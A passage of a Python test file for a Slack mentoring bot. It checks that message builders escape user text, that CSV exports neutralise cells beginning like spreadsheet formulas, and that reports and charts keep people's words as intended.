    "steering.pair_ended_person_note": [lambda: steering.pair_ended_person_note(user_id="U0ANA", partner_id="U0BEN")],
    "steering.rematch_refusal": [lambda w=w: steering.rematch_refusal(st.NotInPool("U0ANA", w))
                                 for w in ("paired", "paused", "left", HOSTILE)],
    "steering.rematch_reply": [lambda o=o: steering.rematch_reply(o)
                               for o in (st.NoPartner("U0ANA", 4), OpenProposal(1, "U0ADM", "https://x/y"),
                                         OpenProposal(None, "U0ADM", None), NotPosted(1, HOSTILE, "C0ADMIN"),
                                         Moved(1, "done", "U0ADM"))],
}

# Helpers that put what they are given into a Block Kit object as it is: their callers escape
# (they are run above with text already escaped, or with plain_text that Slack doesn't parse).
LOW_LEVEL = {"common.context", "common.fields", "common.mrkdwn", "common.section", "common.truncate"}
# What never reaches Slack's mrkdwn parser: CSV files (and their cells), the report printed on the
# command line, the chart's PNG. People's words stay as they typed them there (checked below).
NOT_MRKDWN = {"export.checkins_csv", "export.neutralise", "export.pairs_csv", "export.people_csv",
              "report.report_text"}


def public_builders() -> set[str]:
    names = set()
    for info in pkgutil.iter_modules(bot.blocks.__path__):
        module = importlib.import_module(f"bot.blocks.{info.name}")
        for name, fn in inspect.getmembers(module, inspect.isfunction):
            if fn.__module__ == module.__name__ and not name.startswith("_"):
                names.add(f"{info.name}.{name}")
    return names


def mrkdwn_strings(value, *, key: str | None = None):
    """Every string of a builder's result that Slack reads as mrkdwn: text objects of type
    mrkdwn, a message's `text`, replies that are plain strings. plain_text objects, input values,
    option values and metadata are shown or kept as they are, and are left out."""
    if isinstance(value, str):
        if key not in {"value", "initial_value", "private_metadata", "action_id", "block_id", "callback_id",
                       "url", "initial_date", "initial_time", "style", "type"}:
            yield value
    elif isinstance(value, dict):
        if value.get("type") == "plain_text":
            return
        for k, v in value.items():
            yield from mrkdwn_strings(v, key=k)
    elif isinstance(value, list | tuple):
        for v in value:
            yield from mrkdwn_strings(v, key=key)


def test_every_builder_is_run():
    missing = public_builders() - set(CALLS)
    assert not missing, f"add these builders to CALLS with hostile input: {sorted(missing)}"


@pytest.mark.parametrize("name", sorted(CALLS))
def test_no_mention_or_link_survives(name):
    for call in CALLS[name]:
        result = call()
        if name in LOW_LEVEL | NOT_MRKDWN or result is None:
            continue
        for text in mrkdwn_strings(result):
            found = [m for m in MARKUP if m in text]
            assert not found, f"{name}: {found} survives in {text!r}"


def test_escaping_keeps_the_words():
    assert common.esc("A & B <c> d") == "A &amp; B &lt;c&gt; d"
    assert common.esc("") == "" and common.esc(None) == ""
    intro = rounds.build_intro(pair_id=1, mentor="U0BEN", mentee="U0ANA",
                               profiles={"U0ANA": ("Data & dashboards <3", "video")})
    assert "Data &amp; dashboards &lt;3" in str(intro["blocks"])


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("kind", sorted(export.WRITERS))
def test_csv_cells_are_never_formulas_and_keep_the_words(kind):
    """CSV is not mrkdwn: people's words are kept as they typed them (no `&amp;`), every row has
    the header's columns whatever commas, quotes or line breaks a name holds, and no cell starts
    the way a spreadsheet runs a formula (=, +, -, @, tab, carriage return): such a cell is
    neutralised with a leading apostrophe and otherwise unchanged."""
    rows = _rows(export.WRITERS[kind](hostile_export()))
    header_, body = rows[0], rows[1:]
    assert body and all(len(row) == len(header_) for row in body)
    cells = [c for row in body for c in row]
    assert not [c for c in cells if c.startswith(export.FORMULA_STARTS)]
    by_column = {name: [row[i] for row in body] for i, name in enumerate(header_)}
    names = by_column.get("name") or by_column["mentor_name"]
    for formula in FORMULAS[:1] if kind == "pairs" else FORMULAS:
        assert "'" + formula in names
    if kind == "people":
        assert "'" + FORMULAS[3] + ";ai_tools" in by_column["skills_share"]
        assert {"'" + f for f in FORMULAS} <= set(by_column["department"])
    assert HOSTILE in (by_column.get("name") or by_column["mentee_name"])
    assert "&amp;" not in "".join(cells) and "&lt;" not in "".join(cells)


def test_the_export_holds_no_shared_words():
    """A blocker shared with the program team is shown to admins in Slack, never written to a file."""
    files = "".join(writer(hostile_export()) for writer in export.WRITERS.values())
    assert "says no" not in files and "My manager" not in files
    assert "said something is getting in the way" in files


def test_neutralise():
    assert [export.neutralise(v) for v in FORMULAS] == ["'" + v for v in FORMULAS]
    assert export.neutralise(HOSTILE) == HOSTILE and export.neutralise("O'Brien =1") == "O'Brien =1"
    assert export.neutralise(None) == "" and export.neutralise(3) == "3" and export.neutralise("'=1") == "'=1"


def test_report_text_shows_names_as_typed():
    """The command line's report is plain text: names as Slack has them, with the user ID."""
    text = report.report_text(health_report(pairs=3))
    assert f"{HOSTILE} (U0ANA)" in text and f"{FORMULAS[0]} (U0BEN)" in text
    assert "&amp;" not in text
    assert "My manager" in text and "says no" in text  # shared with the program team, one line
    assert all(line.count("says no") <= 1 and not line.startswith("says no") for line in text.splitlines())


def test_the_chart_is_a_png_with_only_our_words():
    """No person's words reach the chart (its title and labels are ours); it draws every shape of
    a cohort's weeks, and nothing when no week has been asked yet."""
    for cohort in (True, False):
        png = chart.draw_chart(WEEKS, cohort=cohort)
        assert png[:8] == b"\x89PNG\r\n\x1a\n"
        assert (int.from_bytes(png[16:20], "big"), int.from_bytes(png[20:24], "big")) == (1200, 700)
    assert chart.draw_chart(WEEKS[2:3], cohort=True) is None and chart.draw_chart((), cohort=False) is None
    one = r.WeekPoint(week=1, cycle=1, pairs=1, met=r.Ratio(0, 1), response=r.Ratio(0, 2), usefulness=r.Mean(0, 0))
    assert chart.draw_chart((one,), cohort=True)[:4] == b"\x89PNG"
